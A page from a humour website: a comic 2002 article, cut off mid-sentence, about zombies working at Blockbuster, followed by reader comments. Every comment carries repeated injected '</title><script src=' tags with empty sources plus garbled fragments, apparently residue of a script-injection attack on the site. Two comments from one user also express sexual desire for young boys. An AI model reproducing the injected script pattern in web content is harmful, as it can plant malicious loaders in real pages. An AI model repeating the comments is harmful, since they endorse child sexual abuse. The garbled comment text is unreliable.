Fun Infused Games  |   Evil Scale  |  |  |   Starcraft Live  |   Fun Pages  |   Your ad here. Twitter RSS
Home  Archive  Search  Forum  Members  Subscribe  Links  About  Advertise
Zombies Work at Blockbuster
by Kris on 8/1/2002 (6)

"Your movie is due back Tuesday by midnight."
Today began like any other normal day. I woke up at 4 pm after a long night of binge drinking, promiscuous sex with many anonymous partners, and far too many needle drugs. After rescuing the Princess from the clutches of the evil King Koopa, I decided it was time for some video games. Finding that I had inadvertently used my Nintendo as kindling for a still smoldering bonfire, I decided it was time for breakfast. And like any normal breakfast, you need a good movie to go along with it. Unfortunately, the cable was no help. They don’t tend to play movies at such early hours of the day. So I threw on my pants and headed for the local Blockbuster Video. After searching the shelves at Blockbuster for far too long, I found the perfect movie. Yes, you guess it, “Pootie Tang.” With my movie in hand and visions of belt whipping action in my head, I proceeded to the checkout line. This is when I realized… “Zombies work at Blockbuster.”

Scene from the 1968 Documentary "Night of the Living Dead".
It is widely known that Zombies, or the Undead, or the Living Dead, are not friends of the living. This can be seen in any of the numerous documentaries about Zombies, such as “Dawn of the Dead”, “Night of the Living Dead,” and “Zombies on Broadway”. They are often portrayed as very evil and seem to have an unending hunger for human flesh. There was a brief movement in the late 80’s to prove that zombies were in fact good-hearted folk that had been discriminated against simply because of their skin color, or often their lack ofskin. This movement ended in tragedy though, when the zombies turned on their supporters and caused the single largest zombie massacre ever recorded.

Since then, it has become widely accepted that zombies are no good. Which is why it was so disturbing to see them at such a reputable establishment as Blockbuster Video. Needless to say, I stilled wanted the movie so I tried my best not to make a big deal about it. Things were going well until I punched the zombie in the face,called him a fat zombie pig, and ran out of the store doing my best rendition of “Ding dong, the witch is dead.” Realizing that the zombie was still in possession of my Blockbuster card, I returned to the store. Those things are next to impossible to get replaced, and I would rather face certain death than go a week without my precious Blockbuster card and all the sweet movie goodness that it can provide. I promptly apologized for my previous actions and offered to purchase the Zombie dinner or a small economy class car. After pointing out that he only fed on the flesh of the living, of which he doubted would be served at arestaurant, and that he did not have a valid driver’s license nor any need for a Ford Pinto, he accepted my apology and passed me a flyer of soon to be released videos. I thanked him and went on my way.

Pootie Tang
Even though “Pootie Tang” is a spectacular movie, throughout the entire piece, I could not stop thinking about my encounter with the Zombie. And it dawned on me. Zombies are the perfect employees for a video rental chain. A human works a typical eight-hour work day, with athirty-five minute break in the middle, as mandated by law. But Zombies

page has been viewed 9607 times


1. by Frank Stalone on 3/1/2007 4:52:29 PM
I love the movie Pootie Tang... great picture.h= </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
2. by Seth (Naeblis-X) on 3/1/2007 4:52:29 PM
The only part where i actually laugh in the whole movie was where Daddy Tang (chris rock) is brutally beaten by a gurilla.isplay </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
3. by Kris on 3/1/2007 4:52:29 PM
I laughed a few times when he was kicking some ass with that belt. But otherwise, it was a rather stupid flickone"></if </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
4. by ThugAnomicZ on 3/1/2007 4:52:29 PM
I like it when he was dogin bulets with his hair </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
5. by Stewart Trimbul on 3/1/2007 4:52:29 PM
I love fuckin wee boys. </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
6. by Stewart Trimbul on 3/1/2007 4:52:29 PM
I love fuckin wee boys. </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>

What animal is this a picture of?

x Enter the simple name for this animal... i.e., ifyou see a "north american grizzly bear", just enter "bear".
Surround you text with the following tags to usespecial formatting:
[B][/B] for Bold text.
[I][/I] for Italic text.
[QUOTE][/QUOTE] for a quote.

Forexample, in order to write "Smthop rules" in bold, you would enter:[B]Smthop rules[/B].




More referrals |  Add Site

Business   Editorials   Education   Entertainment   Feature   Food   Health   LawPolitics   Religeon   Site News   SpaceSports   Tech   US News   Video Games   World News


Copyright 2010Smooth Operator.
Website Design bySteeleITS - Privacy Policy